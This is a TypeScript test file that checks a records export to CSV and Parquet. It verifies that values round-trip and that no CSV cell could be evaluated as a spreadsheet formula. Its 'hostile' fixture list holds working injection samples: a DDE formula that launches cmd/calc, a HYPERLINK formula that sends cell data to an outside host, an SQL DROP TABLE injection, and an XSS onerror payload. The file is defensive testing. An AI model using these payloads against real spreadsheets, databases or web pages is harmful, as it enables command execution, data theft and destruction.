import path from 'node:path';
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { recordRows } from '../../exports/catalogue/rows/record-rows.ts';
import { textOfCell } from '../../exports/csv/csv.ts';
import { exportLimits } from '../../exports/limits.ts';
import { exportedTables } from '../../exports/tabular/gathering.ts';
import type { MinutesRecord } from '../../schemas/record.ts';
import { parquetRows, strictCsvRows } from './duck.ts';
import { exported } from './exporting.ts';
import { decision, inventedRecord, item, storeOf, version } from './invented.ts';

/** What would do harm where it is not taken for data. */
const hostile = [
  '=HYPERLINK("http://example.org/?"&A1,"click")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "'); DROP TABLE items; --",
  '<img src=x onerror=alert(1)>',
  '"quoted", and, commas',
  'one\r\ntwo\rthree\n',
  '-1+1',
  '\t=1',
  'æøå ☃ 𝒳',
] as const;

const records: readonly MinutesRecord[] = [
  inventedRecord('full'),
  inventedRecord('hostile', {
    items: hostile.map((text, i) =>
      item(`i${i + 1}`, text, { parent: null, decisions: [decision(`i${i + 1}.d1`, text, { votes: [] })], votes: [] }),
    ),
    issues: [],
    attendanceChanges: [],
  }),
].sort((one, other) => (one.id < other.id ? -1 : 1));

/** Columns that only the catalogue as a whole can fill. */
const linked = (table: (typeof exportedTables)[number]): string[] =>
  Object.entries(table.columns).flatMap(([name, { tie, note }]) =>
    tie === 'link' || /_reason$|^scope$|^across$/.test(name) || note.startsWith('why ') ? [name] : [],
  );

/** The rows that the records have, by table, without links between documents. */
async function expectedRows(table: string): Promise<Record<string, unknown>[]> {
  const rows = records.flatMap((record) =>
    Object.entries(recordRows(record, version, '')).filter(([name]) => name === table),
  );
  return rows.flatMap(([, some]) => some.map((row: object) => ({ ...row })));
}

const own = exportedTables.filter(({ name }) => !['bodies', 'people', 'cases'].includes(name));
const without = (row: object, columns: readonly string[]) =>
  Object.fromEntries(Object.entries(row).filter(([name]) => !columns.includes(name)));

describe('tables', async () => {
  const store = await storeOf(records);
  const parquet = await exported(store, 'parquet');
  const csv = await exported(store, 'csv');

  it.each(own)('of $name read by DuckDB from Parquet have the values of the records', async (table) => {
    const left = [...linked(table), 'record_sha256'];
    const flags = Object.entries(table.columns).flatMap(([name, { type }]) => (type === 'flag' ? [name] : []));
    const rows = await parquetRows(path.join(parquet.folder, `${table.name}.parquet`));
    const asStored = rows.map((row) =>
      Object.fromEntries(
        Object.entries(row).map(([name, value]) => [
          name,
          flags.includes(name) && value !== null ? Number(value) : value,
        ]),
      ),
    );
    const expected = await expectedRows(table.name);
    expect(asStored.map((row) => without(row, left))).toEqual(expected.map((row) => without(row, left)));
  });

  it.each(exportedTables)('of $name are the same in CSV and Parquet for a strict reader', async (table) => {
    const [fromCsv, fromParquet] = await Promise.all([
      strictCsvRows(path.join(csv.folder, `${table.name}.csv`)),
      parquetRows(path.join(parquet.folder, `${table.name}.parquet`)),
    ]);
    const printed = (value: unknown): unknown =>
      typeof value === 'boolean' ? String(Number(value)) : value && String(value);
    const texts = (row: object, read: (text: string) => string) =>
      Object.fromEntries(
        Object.entries(row).map(([name, value]) => [name, typeof value === 'string' ? read(value) : printed(value)]),
      );
    const numeric = new Set(['integer', 'real', 'flag']);
    const numbers = Object.entries(table.columns).flatMap(([name, { type }]) => (numeric.has(type) ? [name] : []));
    const withNumbers = (row: object): object =>
      Object.fromEntries(
        Object.entries(row).map(([name, value]) => [
          name,
          numbers.includes(name) && value !== null ? Number(value) : value,
        ]),
      );
    expect(fromCsv.map((row) => withNumbers(texts(row, textOfCell)))).toEqual(
      fromParquet.map((row) => withNumbers(texts(row, (text) => text))),
    );
  });

  it('in CSV can be read by a second strict reader, and hold no cell that a spreadsheet would calculate', () => {
    for (const [name, content] of csv.files) {
      if (!name.endsWith('.csv')) continue;
      const rows: string[][] = parse(content, { record_delimiter: '\r\n' });
      expect(new Set(rows.map(({ length }) => length)).size).toBe(1);
      const numbers = /^-?\d+(?:\.\d+)?$/;
      expect(rows.flat().filter((cell) => /^\s*[=+\-@]/u.test(cell) && !numbers.test(cell))).toEqual([]);
    }
  });

  it('in CSV are described column by column', () => {
    const { resources } = JSON.parse(csv.text('datapackage.json'));
    const described = resources.map(({ path: file }: { path: string }) => file).sort();
    expect(described).toEqual([...csv.files.keys()].filter((name) => name.endsWith('.csv')).sort());
  });

  it('are there when there is nothing to write', async () => {
    const empty = await exported(await storeOf([]), 'parquet');
    expect(await parquetRows(path.join(empty.folder, 'items.parquet'))).toEqual([]);
  });

  it('have of a record that contradicts itself the document, and of others all', async () => {
    const twice = inventedRecord('twice', { items: [item('i1', 'One'), item('i1', 'The same id')], issues: [] });
    const { folder } = await exported(
      await storeOf([{ ...twice, attendanceChanges: [] }, inventedRecord('sound')]),
      'parquet',
    );
    const documents = await parquetRows(path.join(folder, 'documents.parquet'));
    expect(documents.map(({ status }) => status).sort()).toEqual(['failed', 'partly-read']);
    expect(await parquetRows(path.join(folder, 'items.parquet'))).toHaveLength(3);
  });

  it('of more rows than a group holds are whole', async () => {
    const items = Array.from({ length: exportLimits.rowsPerGroup + 7 }, (_, i) => item(`i${i + 1}`, `Item ${i + 1}`));
    const long = await exported(await storeOf([inventedRecord('long', { items })]), 'parquet');
    const rows = await parquetRows(path.join(long.folder, 'items.parquet'));
    expect(rows.map(({ title }) => title)).toEqual(items.map(({ title }) => title));
  });
});
